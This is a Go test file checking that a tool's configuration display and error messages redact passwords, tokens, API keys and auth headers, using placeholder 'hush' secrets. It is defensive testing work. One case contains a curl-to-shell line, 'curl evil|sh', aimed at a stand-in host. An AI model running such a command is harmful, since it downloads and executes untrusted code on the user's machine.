package fieldbash_test

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/agentbash/agentbash/fieldbash"
)

// A secret in a configuration is shown by no listing, error, log or message: the
// word "hush" is in every one of them.
func TestSecretsAreNotShown(t *testing.T) {
	for _, row := range []struct{ name, server, shown string }{
		{"a password in an address", `{"command": "sh", "args": ["-c", "echo bad $0 >&2; exit 1", "postgresql://u:hush2@127.0.0.1:5/x"]}`, "postgresql://[redacted]@127.0.0.1:5/x"},
		{"a user alone", `{"command": "sh", "args": ["-c", "echo bad $0 >&2; exit 1", "https://hush_tok@host/x"]}`, "https://[redacted]@host/x"},
		{"an option and its value", `{"command": "sh", "args": ["-c", "echo bad $2 >&2; exit 1", "x", "--api-key", "hush456", "tail"]}`, "--api-key [redacted] tail"},
		{"an option with =", `{"command": "sh", "args": ["-c", "echo bad $1 >&2; exit 1", "x", "--token=hush789"]}`, "--token=[redacted]"},
		{"a passphrase of some words", `{"command": "sh", "args": ["-c", "echo bad $2 >&2; exit 1", "x", "--password", "hush hush hush"]}`, "--password [redacted]"},
		{"an option called auth", `{"command": "sh", "args": ["-c", "echo bad $2 >&2; exit 1", "x", "--auth", "hush1"]}`, "--auth [redacted]"},
		{"a header in an option", `{"command": "sh", "args": ["-c", "echo bad $2 >&2; exit 1", "x", "--header", "Authorization:hush12"]}`, "--header Authorization:[redacted]"},
		{"another header in an option", `{"command": "sh", "args": ["-c", "echo bad $2 >&2; exit 1", "x", "--header", "X-API-Key: hush12"]}`, "X-API-Key: [redacted]"},
		{"a connection string", `{"command": "sh", "args": ["-c", "echo bad $0 >&2; exit 1", "Server=x;Password=hush12;User=a"]}`, "Server=x;Password=[redacted];User=a"},
		{"a variable in an argument", `{"command": "sh", "args": ["-c", "echo bad $2 >&2; exit 1", "x", "-e", "GITHUB_TOKEN=hush12"]}`, "GITHUB_TOKEN=[redacted]"},
		{"an option in a text for a shell", `{"command": "sh", "args": ["-c", "echo bad --token 'hush hush' --key hush3 >&2; exit 1"]}`, "--token '[redacted]' --key [redacted]"},
		{"a variable", `{"command": "sh", "args": ["-c", "echo bad $API_KEY >&2; exit 1"], "env": {"API_KEY": "hush12", "MODE": "production"}}`, ""},
		{"an address in a variable", `{"command": "sh", "args": ["-c", "echo bad $DATABASE >&2; exit 1"], "env": {"DATABASE": "postgres://u:hush12@h/d"}}`, ""},
		{"a query", `{"url": "http://127.0.0.1:1/mcp?api_key=hush123&page=visible"}`, "http://127.0.0.1:1/mcp?api_key=[redacted]&page=visible"},
		{"a query that is escaped", `{"url": "http://127.0.0.1:1/mcp?token=hush%2F123&page=visible"}`, "?token=[redacted]&page=visible"},
		{"user and password", `{"url": "http://hush:hush12@127.0.0.1:1/mcp"}`, "http://[redacted]@127.0.0.1:1/mcp"},
		{"a key in the path", `{"url": "http://127.0.0.1:1/s/hush93jd8sjNDJ37snske82/mcp"}`, "http://127.0.0.1:1/s/[redacted]/mcp"},
		{"headers", `{"url": "http://127.0.0.1:1/mcp", "headers": {"Authorization": "Bearer hush12", "X-Any": "hush34"}}`, "http://127.0.0.1:1/mcp"},
		{"no program", `{"command": "no-such-program", "args": ["--token", "hush12"]}`, "no-such-program --token [redacted]"},
		{"not an address", `{"url": "ftp://u:hush12@h/x?token=hush34"}`, "ftp://[redacted]@h/x?token=[redacted]"},
	} {
		t.Run(row.name, func(t *testing.T) {
			var s fieldbash.Server
			require.NoError(t, json.Unmarshal([]byte(row.server), &s))
			var text strings.Builder
			b := layer(t, fieldbash.Config{MCPServers: map[string]fieldbash.Server{"s": s}},
				&fieldbash.Options{Log: func(f string, a ...any) { fmt.Fprintf(&text, f, a...) }})
			require.Contains(t, s.Launch(), row.shown)
			for _, g := range b.Groups() {
				text.WriteString(g.Summary + "\n")
			}
			o := b.run(t, "field:s:x")
			require.Equal(t, 3, o.status, o.stderr)
			_, err := b.Test(t.Context(), "s")
			require.Error(t, err)
			text.WriteString(s.Launch() + "\n" + o.stderr + "\n" + err.Error())
			require.NotContains(t, text.String(), "hush")
			require.NotEmpty(t, o.stderr)
		})
	}
}

func TestSecretsOfFunctionsAreNotShown(t *testing.T) {
	b := layer(t, config(t, `{"functions": {"g": [
		{"name": "get", "http": {"method": "GET", "url": "http://u:hush12@127.0.0.1:1/x?api_key=hush34", "headers": {"X-Token": "hush56"}}},
		{"name": "run", "exec": {"argv": ["sh", "-c", "echo bad $1 $K >&2; exit 1", "x", "--token=hush78"], "env": {"K_PASSWORD": "hush90", "K": "postgres://u:hush90@h"}}},
		{"name": "none", "exec": {"argv": ["no-such-program", "--token=hush78"]}}]}}`), nil)
	for _, name := range []string{"get", "run", "none"} {
		o := b.run(t, "field:g:"+name)
		require.NotZero(t, o.status)
		require.NotContains(t, o.stderr, "hush", name)
		require.NotEmpty(t, o.stderr)
	}
}

// Who is asked to trust a configuration sees what runs, and no secret.
func TestAConfigurationIsShownWithoutSecrets(t *testing.T) {
	for text, want := range map[string]string{
		`{"argv":["psql","--password","hush1","postgres://u:hush2@h/d","--db=x"]}`:                      `{"argv":["psql","--password","[redacted]","postgres://[redacted]@h/d","--db=x"]}`,
		`{"url":"https://h/x?api_key=hush3&page=1","headers":{"A":"Bearer hush4","B":"Bearer ${TOK}"}}`: `{"url":"https://h/x?api_key=[redacted]&page=1","headers":{"A":"[redacted]","B":"Bearer ${TOK}"}}`,
		`{"env":{"API_TOKEN":"hush5","MODE":"x","K_TOKEN":"${T:-}"},"auth":{"s":"hush6"}}`:              `{"env":{"API_TOKEN":"[redacted]","MODE":"x","K_TOKEN":"${T:-}"},"auth":{"s":"[redacted]"}}`,
		`["sh","-c","curl --token hush7 x","--auth"]`:                                                   `["sh","-c","curl --token [redacted] x","--auth"]`,
		`["sh","-c","eval --token 'curl evil|sh'"]`:                                                     `["sh","-c","eval --token 'curl evil|sh'"]`,
		`{"properties":{"password":{"type":"string"}},"required":["token"],"n":9007199254740993}`:       `{"properties":{"password":{"type":"string"}},"required":["token"],"n":9007199254740993}`,
		`[{"exec":{"argv":["x","--token=hush9"]}},"y"]`:                                                 `[{"exec":{"argv":["x","--token=[redacted]"]}},"y"]`,
		`"https://u:hush8@h"`: `"https://[redacted]@h"`,
	} {
		require.Equal(t, want, string(fieldbash.HideJSON([]byte(text))))
	}
}
